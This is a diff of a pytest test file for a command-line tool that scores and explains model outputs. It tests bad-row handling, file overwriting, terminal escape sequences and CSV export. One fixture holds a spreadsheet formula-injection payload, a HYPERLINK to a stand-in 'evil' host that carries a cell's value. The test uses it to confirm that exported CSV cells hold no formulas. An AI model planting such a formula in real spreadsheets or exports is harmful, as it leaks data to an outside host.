@@ -1,5 +1,7 @@
 """The command line: data on stdout, the rest on stderr, one line and an exit code for whatever cannot be done."""
 
+import csv
+import io
 import json
 import os
 import re
@@ -7,18 +9,22 @@ import subprocess
 import sys
 from pathlib import Path
 from threading import Thread
+from types import SimpleNamespace
 
 import pytest
 from small_adapters import LORA
 from typer.testing import CliRunner
 
-from excam import cli
+from excam import cli, load
+from excam.cli.score_commands import METRICS
 from excam.core import provenance, release, versions
 from excam.core.provenance import sha256
 from excam.error_reports import judges
 from excam.error_reports.judges import report
 from excam.error_reports.records import CulturalError, Report
 from excam.inference import backend_factory, fake
+from excam.scoring import files, metric, result_files
+from excam.scoring.rows import RowFile
 
 ROOT = Path(__file__).parents[2]
 FOUND = Report(
@@ -53,7 +59,7 @@ def here(tmp_path, monkeypatch):
     """A folder with an adapter where the workflow puts it; the process's environment stays as it was."""
     for name in ("TQDM_DISABLE", "TRANSFORMERS_VERBOSITY", "HF_HUB_OFFLINE"):
         monkeypatch.setenv(name, "1" if name != "TRANSFORMERS_VERBOSITY" else "error")
-    monkeypatch.setattr(provenance.warnings, "simplefilter", lambda *_: None)
+    monkeypatch.setattr(provenance.warnings, "simplefilter", lambda *_, **__: None)
     monkeypatch.setenv("COLUMNS", "200")
     monkeypatch.chdir(tmp_path)
     folder, base = Path("results/adapters/smollm2-135m/all"), Path("results/models/smollm2-135m")
@@ -108,8 +114,14 @@ def test_data_goes_to_stdout_and_the_rest_to_stderr(backend):
     assert result.stderr.splitlines()[-1].startswith("excam|model:smollm2-135m@cccccccc|on:all@")
 
 
+def explained(*rows, charset: str = "utf-8", **more) -> str:
+    """What `excam explain` shows of rows that `excam score` scored before."""
+    scored = excam("score", texts(*rows)).stdout
+    return excam("explain", "-", stdin=scored, charset=charset).stdout
+
+
 def test_errors_are_marked_where_they_stand(backend):
-    shown = excam("explain", texts({"output": "Greeks eat Sushi."})).stdout
+    shown = explained({"output": "Greeks eat Sushi."})
     scored = excam("score", texts({"output": "Greeks eat Sushi."}), "--to", "scored.jsonl")
     assert scored.stdout == ""
     assert excam("explain", "scored.jsonl").stdout == shown
@@ -125,7 +137,10 @@ def test_explain_shows_what_was_asked_for_and_sums_up(backend):
     excam("score", texts(*rows), "--to", "scored.jsonl")
     everything = excam("explain", "scored.jsonl").stdout
     assert everything.startswith("   marked: [minor: -1] [major: -5];")
-    assert "── 5 rows: 3 with errors, 1 not judged; 5 shown\nwarning: language-unknown (5 rows)" in everything
+    assert (
+        "── 5 rows: 3 with errors, 1 not judged; 5 shown\nfailed because: no-json (1)\nwarning: language-unknown (5 rows)"
+        in everything
+    )
     assert "\nexcam|model:" in everything
     wrong = excam("explain", "scored.jsonl", "--only", "errors", "--limit", "2").stdout
     assert re.findall(r"^── (\d) ·", wrong, re.MULTILINE) == ["1", "4"]
@@ -139,7 +154,7 @@ def test_explain_shows_what_was_asked_for_and_sums_up(backend):
 
 def test_explain_wraps_behind_its_margin(backend, monkeypatch):
     monkeypatch.setenv("COLUMNS", "40")
-    shown = excam("explain", texts({"output": "word " * 40 + "寿司" * 60, "id": "a"})).stdout
+    shown = explained({"output": "word " * 40 + "寿司" * 60, "id": "a"})
     body = shown[shown.index("output: ") - 3 : shown.index("── 1 rows")].splitlines()
     assert len(body) > 9
     assert all(line.startswith("   ") for line in body)
@@ -147,32 +162,29 @@ def test_explain_wraps_behind_its_margin(backend, monkeypatch):
 
 
 def test_text_that_looks_like_markup_is_text(backend):
-    assert (
-        "   output: [bold]x[/bold] [/] :smile:\n"
-        in excam("explain", texts({"output": "[bold]x[/bold] [/] :smile:"})).stdout
-    )
+    assert "   output: [bold]x[/bold] [/] :smile:\n" in explained({"output": "[bold]x[/bold] [/] :smile:"})
 
 
 def test_control_characters_do_not_reach_the_terminal(backend):
     row = {"id": "i" + ESCAPE, "instruction": ESCAPE, "output": f"{ESCAPE} Sushi {ESCAPE}"}
-    shown = excam("explain", texts(row)).stdout
+    shown = explained(row)
     assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", shown)
     assert r"\x1b[31mred\x1b[0m \x07\x08\x9b \x7f [Sushi] \x1b[31m" in shown
     assert r"why: Sushi is Japanese.\x1b[2J" in shown
     result = excam("score", texts(row))
     assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", result.stderr)
     (line,) = result.stdout.splitlines()
-    assert json.loads(line)["output"] == row["output"], "the data are what they were"
+    assert json.loads(line)["texts"]["output"] == row["output"], "the data are what they were"
     assert "\x1b" not in line
 
 
 def test_stdout_that_cannot_hold_a_character(backend):
     file = texts({"output": "寿司 \ud800"}, {"output": "é"})
     rows = [json.loads(line) for line in excam("score", file).stdout.splitlines()]
-    assert [row["output"] for row in rows] == ["寿司 \ud800", "é"]
+    assert [row["texts"]["output"] for row in rows] == ["寿司 \ud800", "é"]
     result = excam("score", file, charset="ascii")
     assert result.exit_code == 0
-    assert [json.loads(line)["output"] for line in result.stdout.splitlines()] == ["寿司 \ud800", "é"]
+    assert [json.loads(line)["texts"]["output"] for line in result.stdout.splitlines()] == ["寿司 \ud800", "é"]
 
 
 @pytest.mark.parametrize(("charset", "dish"), [("ascii", r"\u5bff\u53f8 \xe9"), ("latin-1", r"\u5bff\u53f8 é")])
@@ -206,16 +218,16 @@ def test_a_megabyte_of_text(backend):
     text = "kebab " * 170_000
     result = excam("score", texts({"output": text}))
     assert result.exit_code == 0
-    assert json.loads(result.stdout)["output"] == text
+    assert json.loads(result.stdout)["texts"]["output"] == text
 
 
 def test_rows_that_were_not_judged(backend):
     some = excam("score", texts({"output": "mumble"}, {"output": "x"}))
     assert some.exit_code == 0
-    assert "── 1 · failure: no-json" in excam("explain", texts({"output": "mumble"})).stdout
-    assert "2 rows: 0 with errors, 1 not judged" in some.stderr
+    assert "── 1 · failure: no-json" in explained({"output": "mumble"})
+    assert "2 rows: 0 with errors, 1 not judged\nfailed because: no-json (1)\n" in some.stderr
     row = json.loads(some.stdout.splitlines()[0])
-    assert (row["score"], row["report"], row["failure"]) == (None, None, "no-json")
+    assert (row["score"], row.get("report"), row["failure"]) == (None, None, "no-json")
     none = excam("score", texts({"output": "mumble"}))
     assert "1 rows: 0 with errors, 1 not judged" in none.stderr
     assert none.exit_code == 1
@@ -226,7 +238,7 @@ def test_to_a_file(backend):
     assert result.exit_code == 0
     assert result.stdout == ""
     rows = [json.loads(line) for line in Path("out/scored.jsonl").read_text(encoding="utf-8").splitlines()]
-    assert [row["output"] for row in rows] == ["Sushi \ud800", "x"]
+    assert [row["texts"]["output"] for row in rows] == ["Sushi \ud800", "x"]
     assert [path.name for path in Path("out").iterdir()] == ["scored.jsonl"], "the journal is no longer needed"
 
 
@@ -254,15 +266,9 @@ def test_a_crash_loses_no_answer(backend, monkeypatch):
     ("content", "part"),
     [
         (b"", "in.jsonl: 0 rows; expected one JSON object a line"),
-        (b'{"output": "x"}\nno json\n', "in.jsonl:2: not JSON"),
-        (
-            b'{"output": "x"}\n{"instruction": "y"}\n',
-            "in.jsonl:2: key output: expected text; found NoneType (instruction)",
-        ),
-        (b'{"a\\nb\\u001b[31m": 1}\n', r"found NoneType (a\nb\x1b[31m)"),
-        (b'{"output": "\xff"}\n', "in.jsonl: not UTF-8 at byte 12"),
-        (b'{"output": "x", "id": 1}\n{"output": "y", "id": "1"}\n', "id 1: occurs twice; expected unique ids"),
-        (b'{"output": "x", "id": "a\\nb"}\n{"output": "y", "id": "a\\nb"}\n', r"id a\nb: occurs twice"),
+        (b'{"instruction": "y"}\n', "in.jsonl: column output: not found; found instruction; give --output NAME"),
+        (b'{"a\\nb\\u001b[31m": 1}\n', r"column output: not found; found a\nb\x1b[31m; give"),
+        (b"<html>", "in.jsonl: an HTML page; expected the data file"),
     ],
 )
 def test_a_file_that_cannot_be_scored(backend, content, part):
@@ -271,9 +277,170 @@ def test_a_file_that_cannot_be_scored(backend, content, part):
     assert backend.asked == []
 
 
+ODD = b"""{"output": "x", "id": 1}
+no json
+{"instruction": "y"}
+{"output": "caf\xff"}
+{"output": "y", "id": "1"}
+{"output": " "}
+["output"]
+{"output": 5}
+{"output": "z"}
+"""
+FAILURES = [None, "not-json", "missing-output", "not-utf8", "duplicate-id", "empty-output", "not-an-object", "not-text-output", None]  # fmt: skip
+
+
+def test_a_bad_row_is_a_failed_row_and_the_others_are_scored(backend):
+    Path("in.jsonl").write_bytes(ODD)
+    result = excam("score", "in.jsonl")
+    found = [json.loads(line) for line in result.stdout.splitlines()]
+    assert [one["failure"] for one in found] == FAILURES
+    assert [one["id"] for one in found] == ["1", "2", "3", "4", "1#5", "6", "7", "8", "9"]
+    assert (result.exit_code, len(backend.asked)) == (0, 2)
+    first, *_ = result.stderr.splitlines()
+    assert first == "excam: warning: 7 of 9 rows cannot be scored; the first: in.jsonl: row 2 (2): not-json"
+    assert "9 rows: 0 with errors, 7 not judged\nfailed because: " in result.stderr
+    assert "not-json (1)" in result.stderr
+    shown = excam("explain", "-", "--only", "failures", stdin=result.stdout).stdout
+    assert "── 1#5 · failure: duplicate-id" in shown
+
+
+def test_strict_stops_at_a_bad_row(backend):
+    Path("in.jsonl").write_bytes(b'{"output": "x"}\n{"output": null}\n{"output": "z"}\n')
+    assert stopped("score", "in.jsonl", "--strict") == (
+        "excam: in.jsonl: row 2 (2): missing-output; expected none with --strict (1 such rows)"
+    )
+    assert backend.asked == []
+    assert excam("score", texts({"output": "x"}), "--strict").exit_code == 0
+
+
+def test_columns_and_formats_are_said_in_a_line(backend):
+    Path("in.csv").write_bytes("\ufeffFrage;Antwort;Note\r\nWas?;Sushi.;3,5\r\n".encode())
+    result = excam("score", "in.csv")
+    assert "in.csv: semicolons; read Frage as instruction, Antwort as output; not read: Note\n" in result.stderr
+    assert json.loads(result.stdout)["texts"] == {"instruction": "Was?", "output": "Sushi."}
+    named = excam("score", "in.csv", "--output", "Note", "--column", "instruction=Antwort")
+    assert json.loads(named.stdout)["texts"] == {"instruction": "Sushi.", "output": "3,5"}
+    assert "--column: found x; expected NAME=COLUMN" in stopped("score", "in.csv", "--column", "x")
+    assert "column x: not found; found Frage, Antwort, Note" in stopped("score", "in.csv", "--output", "x")
+
+
+def test_the_first_rows_alone(backend):
+    file = texts({"output": "x"}, {"output": "y"}, {"output": "z"})
+    assert len(excam("score", file, "--limit", "2", "--to", "a.jsonl").stderr) > 0
+    assert [json.loads(line)["id"] for line in Path("a.jsonl").read_text().splitlines()] == ["1", "2"]
+    backend.asked.clear()
+    assert excam("score", file, "--to", "a.jsonl").exit_code == 0, "a finished file of fewer rows goes on"
+    assert [json.loads(line)["id"] for line in Path("a.jsonl").read_text().splitlines()] == ["1", "2", "3"]
+    assert len(backend.asked) == 1
+    again = excam("score", file, "--to", "a.jsonl")
+    assert "a.jsonl: has all 3 rows already; nothing is asked" in again.stderr
+    assert len(backend.asked) == 1
+
+
+# --- what is written
+
+
+def test_a_file_that_is_there_is_not_written_over(backend):
+    file = texts({"output": "x"})
+    Path("notes.txt").write_text("mine")
+    assert "unknown kind .txt; expected .jsonl, .parquet, .csv" in stopped("score", file, "--to", "notes.txt")
+    advice = "expected none; name another file, or give --overwrite"
+    for name, content in (("a.jsonl", "mine\n"), ("a.csv", "a,b\n1,2\n"), ("a.parquet", "mine"), ("b.jsonl", "")):
+        Path(name).write_text(content)
+        line = stopped("score", file, "--to", name)
+        assert line == f"excam: {name}: is there, and is no file of results; {advice}"
+        assert Path(name).read_text() == content
+    excam("score", file, "--to", "c.jsonl")
+    before = Path("c.jsonl").read_bytes()
+    assert "c.jsonl: has results of excam|" in stopped("score", file, "--to", "c.jsonl", "--max-tokens", "99")
+    assert stopped("score", texts({"output": "other"}), "--to", "c.jsonl").endswith(advice)
+    assert Path("c.jsonl").read_bytes() == before
+    assert excam("score", file, "--to", "c.jsonl", "--overwrite").exit_code == 0
+    assert json.loads(Path("c.jsonl").read_text())["texts"]["output"] == "other"
+    assert "--overwrite: found without --to" in stopped("score", file, "--overwrite")
+    Path("page.html").write_text("<!doctype html><p>mine")
+    assert "page.html: is there, and is another file" in stopped("report", "c.jsonl", "--to", "page.html")
+    assert excam("report", "c.jsonl", "--to", "page.html", "--overwrite").exit_code == 0
+    assert excam("report", "c.jsonl", "--to", "page.html").exit_code == 0, "an earlier page of the same command"
+
+
+FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'
+ROUND = [
+    {"id": "a", "output": 'Sushi, "raw"\nand more; yes', "language": "English"},
+    {"id": "b", "output": FORMULA, "system": "-1"},
+    {"id": "'c", "output": "mumble", "culture": "Greece"},
+    {"id": "d", "output": ""},
+]
+
+
+@pytest.mark.parametrize("kind", ["jsonl", "parquet", "csv"])
+def test_the_suffix_decides_the_format_and_every_command_reads_it_back(backend, kind):
+    plain = [json.loads(line) for line in excam("score", texts(*ROUND)).stdout.splitlines()]
+    assert excam("score", texts(*ROUND), "--to", f"scored.{kind}").exit_code == 0
+    assert [json.loads(json.dumps(one.to_dict())) for one in result_files.read(Path(f"scored.{kind}"))] == plain
+    assert (
+        excam("explain", f"scored.{kind}").stdout
+        == excam("explain", "-", stdin=excam("score", texts(*ROUND)).stdout).stdout
+    )
+    assert excam("report", f"scored.{kind}", "--to", f"{kind}.html").exit_code == 0
+    assert (
+        stopped("compare", *[f"scored.{kind}"] * 2)
+        == f"excam: scored.{kind}: given twice; expected one file for each system"
+    )
+    excam("score", texts(*ROUND), "--to", "other.jsonl")
+    assert "3 compared" not in excam("compare", f"scored.{kind}", "other.jsonl").stdout
+    Path("labels.csv").write_text("id,label\na,0\nb,1\n'c,1\n")
+    assert excam("meta", "labels.csv", f"scored.{kind}", "--json").exit_code == 0
+    backend.asked.clear()
+    again = excam("score", texts(*ROUND), "--to", f"scored.{kind}")
+    assert (again.exit_code, backend.asked) == (0, [])
+
+
+def test_a_table_for_a_spreadsheet(backend):
+    excam("score", texts(*ROUND), "--to", "scored.csv")
+    data = Path("scored.csv").read_bytes()
+    assert data.startswith(b"\xef\xbb\xbfid,score,failure,"), "the mark by which Excel knows UTF-8"
+    cells = [cell for line in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in line]
+    assert not [cell for cell in cells if cell[:1] in "=+@" and cell], "no formula"
+    assert "'-1" in cells or "-1" in cells
+
+
+def test_several_files_have_one_result_file_each(backend):
+    a, b = texts({"output": "Sushi"}, name="a.jsonl"), texts({"output": "x"}, {"output": "y"}, name="b.jsonl")
+    result = excam("score", a, b, "--to", "scored")
+    assert result.exit_code == 0
+    assert "3 rows: 1 with errors" in result.stderr
+    assert [len(Path("scored", name).read_text().splitlines()) for name in (a, b)] == [1, 2]
+    shown = excam("explain", "scored/a.jsonl", "scored/b.jsonl").stdout
+    assert "═══ scored/a.jsonl\n" in shown
+    assert len(excam("score", a, b).stdout.splitlines()) == 3
+    assert "found one.jsonl for 2 files; expected a folder" in stopped("score", a, b, "--to", "one.jsonl")
+    Path("other").mkdir()
+    texts({"output": "x"}, name="other/a.jsonl")
+    assert "2 files, and two of one name" in stopped("score", a, "other/a.jsonl", "--to", "scored")
+
+
+def test_what_was_never_scored_cannot_be_explained(backend):
+    file = texts({"output": "x"})
+    line = "excam: texts.jsonl: no scored rows; score it first: excam score texts.jsonl --to scored.jsonl"
+    assert stopped("explain", file) == line
+    assert stopped("explain", "absent.jsonl").startswith("excam: absent.jsonl: no such file or directory; expected")
+
+
+def test_a_long_text_is_shown_around_its_marked_words(backend):
+    text = "kebab " * 500 + "Sushi" + " kebab" * 500
+    excam("score", texts({"output": text}), "--to", "scored.jsonl")
+    shown = excam("explain", "scored.jsonl").stdout
+    assert len(shown) < 1500
+    assert "[Sushi]" in shown
+    assert "[…2,880 characters…]" in shown
+    assert len(excam("explain", "scored.jsonl", "--whole").stdout) > 6000
+
+
 def test_no_file(backend):
     assert stopped("score", "absent.jsonl").startswith(
-        "excam: absent.jsonl: no such file or directory; expected JSON Lines"
+        "excam: absent.jsonl: no such file or directory; expected a file of rows"
     )
 
 
@@ -293,7 +460,9 @@ def test_the_input_is_not_written_over(backend):
         stopped("score", file, "--to", f"./{file}") == f"excam: {file}: is the input; expected another file to write to"
     )
     assert Path(file).read_bytes() == before
-    assert stopped("score", file, "--to", "results") == "excam: results: is a folder; expected another file to write to"
+    Path("folder/texts.jsonl").mkdir(parents=True)
+    line = stopped("score", file, "--to", "folder")
+    assert line == "excam: folder/texts.jsonl: is a folder; expected another file to write to"
     assert backend.asked == []
 
 
@@ -392,7 +561,20 @@ def test_list_for_a_terminal_stands_in_columns():
 
 
 def test_list_what_is_no_list():
-    assert stopped("list", "models") == "excam: models: nothing to list; known: datasets, judges"
+    assert stopped("list", "models") == "excam: models: nothing to list; known: metrics, datasets, judges"
+    assert "did you mean metrics? known" in stopped("list", "metric")
+
+
+def test_list_metrics_says_what_each_reads_and_needs():
+    shown = excam("list", "metrics").stdout
+    assert (
+        "bleu\n    reads translation, reference\n    returns mean over sentences, more is better (0 to 100)\n" in shown
+    )
+    found = [json.loads(line) for line in excam("list", "metrics", "--json").stdout.splitlines()]
+    assert [one["metric"] for one in found] == sorted(metric.available())
+    assert {one["metric"]: one["needs"] for one in found}["calmqa"] == "a model and an index of evidence"
+    assert sorted(METRICS.split(", ")) == sorted(metric.available()), "excam score --help lists them"
+    assert all(json.loads(line) for line in excam("list", "--json").stdout.splitlines())
 
 
 def test_lock_says_what_changed(monkeypatch):
@@ -456,15 +638,11 @@ def test_journals_are_shown_verified_and_compacted(backend):
 
 
 def cli_metric():
-    from excam.error_reports.metric.scorer import Metric
-
-    return Metric.open("results/adapters/smollm2-135m/all")
+    return load("results/adapters/smollm2-135m/all")
 
 
 def test_a_file_that_another_run_writes_is_left_to_it(backend):
-    from excam.scoring.scored_file import Growing
-
-    with Growing(Path("scored.jsonl"), "theirs"):
+    with result_files.Growing(Path("scored.jsonl"), SimpleNamespace(signature="theirs", identity="theirs")):
         line = stopped("score", texts({"output": "x"}), "--to", "scored.jsonl")
         assert line.startswith("excam: scored.jsonl: another run writes it; expected a file of its own for each")
     assert not list(Path().glob(".scored*"))
@@ -472,29 +650,25 @@ def test_a_file_that_another_run_writes_is_left_to_it(backend):
 
 
 def test_a_run_that_failed_is_begun_again_in_the_same_program(backend, monkeypatch):
-    from excam.error_reports.metric.scorer import Metric
-    from excam.scoring import files
-    from excam.scoring.pairs import PairFile
-
-    metric, rows = Metric.open("smollm2-135m/all"), PairFile(Path(texts({"output": "x"}, {"output": "y"})))
+    scorer = load("smollm2-135m/all")
+    rows = RowFile(Path(texts({"output": "x"}, {"output": "y"})), scorer.metric)
     asking = backend.generate
     monkeypatch.setattr(backend, "generate", lambda *_: (_ for _ in ()).throw(RuntimeError("gone")))
-    running = files.results(metric, rows, Path("scored.jsonl"))
+    running = files.results(scorer, rows, 2, Path("scored.jsonl"))
     with pytest.raises(RuntimeError, match="gone") as kept:
         next(running)
     monkeypatch.setattr(backend, "generate", asking)
-    assert len(list(files.results(metric, rows, Path("scored.jsonl")))) == 2, kept.traceback
+    assert len(list(files.results(scorer, rows, 2, Path("scored.jsonl")))) == 2, kept.traceback
 
 
 def test_where_nothing_but_a_plain_file_is_written(backend):
     assert stopped("score", texts({"output": "x"}), "--to", "/dev/null").startswith(
         "excam: /dev/null: is no plain file"
     )
-    Path("behind.jsonl").write_text("old")
     Path("link.jsonl").symlink_to("behind.jsonl")
     assert excam("score", texts({"output": "x"}), "--to", "link.jsonl").exit_code == 0
     assert Path("link.jsonl").is_symlink()
-    assert json.loads(Path("behind.jsonl").read_text())["output"] == "x"
+    assert json.loads(Path("behind.jsonl").read_text())["texts"]["output"] == "x"
 
 
 def test_a_loop_of_links_is_one_line(backend):
@@ -535,7 +709,7 @@ def test_a_place_that_cannot_be_written_is_one_line(backend, words):
 
 
 def test_no_sign_of_a_text_turns_the_terminal_around(backend):
-    shown = excam("explain", texts({"output": "a \u202eb\u2066 \U000e0041"})).stdout
+    shown = explained({"output": "a \u202eb\u2066 \U000e0041"})
     assert r"a \u202eb\u2066 \U000e0041" in shown
     england = "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"
-    assert f"a {england}." in excam("explain", texts({"output": f"a {england}."})).stdout
+    assert f"a {england}." in explained({"output": f"a {england}."})
